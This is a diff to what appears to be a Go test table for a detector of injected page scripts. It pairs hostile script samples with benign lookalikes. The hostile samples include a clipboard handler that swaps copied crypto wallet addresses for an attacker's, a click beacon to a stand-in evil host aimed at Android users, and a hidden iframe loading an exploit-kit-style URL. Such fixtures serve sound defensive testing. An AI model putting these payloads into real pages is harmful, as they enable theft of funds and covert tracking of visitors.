@@ -64,6 +64,8 @@ var trials = []trial{
 		fetch("/api/search?q="+q).then(function(r){return r.text()}).then(function(t){document.getElementById("main").innerHTML=t})})</script>`)},
 	{"injection.copy_swap", Alert, added(`<script>document.addEventListener("copy",function(e){var s=String(getSelection()).replace(/\b0x[0-9a-fA-F]{40}\b/g,"0xF1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7F1C7");e.clipboardData.setData("text/plain",s);e.preventDefault()})</script>`),
 		added(`<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain",getSelection()+" Read more at "+location.href);e.preventDefault()})</script>`)},
+	{"injection.odd_code", Alert, added(`<script>(function(){var t=Date.now();document.addEventListener("click",function(){if(/android/i.test(navigator.userAgent)&&t)new Image().src="https://fresh.evil-host.top/i?"+t})})()</script>`),
+		added(`<script>var _q=window._q=window._q||[];_q.push(["trackPageView"]);(function(){var u="https://stats.planning.gov.pk/",g=document.createElement("script");g.async=true;g.src=u+"s.js";document.head.appendChild(g)})()</script>`)},
 	{"injection.decoder", Alert, added(attackNamed("decoder")), added(`<script>var label=unescape("caf%E9");document.getElementById("top").title=label;</script>`)},
 	{"injection.frame_writer", Alert, added(`<script>document.write('<iframe src="https://kit.evil-gate.top/in" style="display:none"></iframe>')</script>`),
 		added(`<script>var f=document.createElement("iframe");f.src="https://www.youtube.com/embed/abc";document.getElementById("main").appendChild(f)</script>`)},
